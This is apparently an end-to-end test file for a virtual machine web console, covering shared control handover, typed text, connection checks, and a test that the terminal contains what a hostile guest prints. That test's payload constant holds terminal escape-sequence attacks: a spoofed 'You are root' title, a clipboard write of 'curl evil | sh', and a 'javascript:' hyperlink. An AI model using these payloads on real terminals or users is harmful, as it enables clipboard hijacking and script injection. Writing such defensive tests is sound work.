"""Consoles that several people use at once, and what a hostile guest prints on one."""

from __future__ import annotations

from base64 import b64encode
from collections.abc import Iterator
from uuid import UUID

import pytest
from playwright.sync_api import Page, WebSocket, expect

from tests.e2e.conftest import SitDown
from tests.e2e.tabs import PATIENCE_MS, Tab
from tests.running import Console
from tests.visitors import Visitor, wait_for

expect.set_options(timeout=PATIENCE_MS)
SHARED = "shared-1"
SCREEN = f"vms/default/{SHARED}/console"
HOSTILE = (
    b"\x1b]0;You are root\x07\x1b]2;You are root\x1b\\\x1b]52;c;" + b64encode(b"curl evil | sh") + b"\x07"
    b"\x1b]52;c;?\x07\x1b[c\x1b[>c\x1b[5n\x1b[6n\x1b[18t\x1b[21t\x1bP$qm\x1b\\\x1b]11;?\x07\x1b[>q\x05"
    b"x\x1b[2147483647b\x1b[2147483647L\x1b[2147483647S\x1b[8;9999;9999t\x1b[9999999999;9999999999H"
    b"\x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07\x1b[2J\x1b[Hharmless after all\r\n"
)


@pytest.fixture(scope="module")
def mia(admin: Visitor) -> Visitor:
    return admin.invite("mia", ("edit", "default"), ("cluster-view", ""))


@pytest.fixture(scope="module")
def shared(editor: Visitor) -> Iterator[str]:
    """A machine of its own that never gets beyond its firmware."""
    assert editor.create(SHARED).status_code == 302
    editor.wait_for_state(SHARED, "Running")
    yield SHARED
    editor.remove(SHARED)


def at_screen(tab: Tab) -> Page:
    tab.go(SCREEN)
    expect(tab.page.locator("vm-screen")).to_have_attribute("data-state", "live")
    return tab.page


def test_one_drives_and_control_moves(
    shared: str, sit_down: SitDown, admin: Visitor, editor: Visitor, mia: Visitor
) -> None:
    first = at_screen(sit_down(editor).tab())
    second = at_screen(sit_down(mia).tab())
    keys = "Ctrl+Alt+Del"
    said = {page: page.locator("vm-screen [data-company-strip]") for page in (first, second)}
    expect(said[second]).to_contain_text("ed drives. You are watching.")
    expect(second.get_by_role("button", name=keys)).to_be_disabled()
    expect(first.get_by_role("button", name=keys)).to_be_enabled()

    second.get_by_role("button", name="Ask for control").click()
    expect(said[first]).to_contain_text("mia asks for control.")
    first.get_by_role("button", name="Hand over", exact=True).click()
    expect(said[first]).to_contain_text("mia drives. You are watching.")
    expect(second.get_by_role("button", name=keys)).to_be_enabled()

    third = at_screen(sit_down(admin).tab())
    third.get_by_role("button", name="Take control").click()
    expect(third.get_by_role("button", name=keys)).to_be_enabled()
    expect(said[second]).to_contain_text("admin drives. You are watching.")
    third.locator("[data-company]").click()
    expect(third.locator("[data-company-list] li")).to_have_count(3)
    moves = [entry for entry in admin.audit(object=SHARED, kind="Console") if entry["action"] == "console.control"]
    assert [(entry["extra"]["how"], entry["extra"]["to"]) for entry in moves] == [("taken", "admin"), ("given", "mia")]


def test_a_text_is_typed_with_progress_and_can_be_stopped(shared: str, sit_down: SitDown, editor: Visitor) -> None:
    page = at_screen(sit_down(editor).tab())
    page.get_by_role("button", name="Type a text").click()
    text = page.get_by_label("Type this text on the machine's keyboard")
    page.get_by_label("Its keyboard").select_option("de")
    text.fill("grüße €{} 日本")
    expect(page.locator("[data-impossible]")).to_have_text("Left out, as this keyboard cannot type it: 日 本")
    text.fill("x" * 5000)
    page.get_by_role("button", name="Type it").click()
    expect(page.locator("[data-typed]")).to_contain_text("of 5000 keys")
    page.locator("[data-typing]").get_by_role("button", name="Cancel").click()
    expect(page.locator("[data-typed]")).to_contain_text("Stopped after")


def test_what_a_guest_prints_stays_in_its_terminal(
    shared: str, sit_down: SitDown, editor: Visitor, console: Console
) -> None:
    uid = UUID(console.rows("SELECT uid FROM inventory_virtualmachine WHERE name = ?", SHARED)[0][0])
    with (console.state / "serial" / f"{uid}.log").open("ab") as log:
        log.write(HOSTILE)
    tab = sit_down(editor).tab(permissions=["clipboard-read", "clipboard-write"])
    page = tab.page
    sent: list[str | bytes] = []

    def said(frame: str | bytes) -> None:
        sent.append(frame)

    def opened(socket: WebSocket) -> None:
        if "/serial" in socket.url:
            socket.on("framesent", said)

    page.on("websocket", opened)
    tab.go(f"{SCREEN}?kind=serial")
    rows = page.locator(".xterm-rows")
    expect(rows).to_contain_text("harmless after all")
    assert "root" not in page.title()
    assert page.evaluate("navigator.clipboard.readText()") == ""
    assert page.locator(".xterm a").count() == 0
    assert len(sent) == 1, sent  # the ticket: nothing was answered into the guest
    assert b"ticket" in (sent[0] if isinstance(sent[0], bytes) else sent[0].encode())
    page.get_by_label("Find in the output").fill("harmless")
    expect(page.get_by_label("Find in the output")).to_have_attribute("aria-invalid", "false")
    page.get_by_role("button", name="Copy the selection, or everything").click()
    wait_for(lambda: "harmless" in page.evaluate("navigator.clipboard.readText()"), why="the copy")


def test_the_way_is_checked(shared: str, sit_down: SitDown, editor: Visitor) -> None:
    tab = sit_down(editor).tab()
    page = at_screen(tab)
    page.get_by_role("button", name="Check the way to the machine").click()
    dialog = page.get_by_role("dialog", name="Does the console open?")
    expect(dialog).to_contain_text("The console opens")
    editor.power(SHARED, "force-stop")
    editor.wait_for_state(SHARED, "Stopped")
    expect(page.locator("vm-screen")).to_have_attribute("data-state", "off")
    dialog.get_by_role("button", name="Check again").click()
    expect(dialog).to_contain_text("The machine is off, or has no such console")
    expect(page.locator(".screen-ghost")).to_be_attached()  # the last picture stays, dimmed
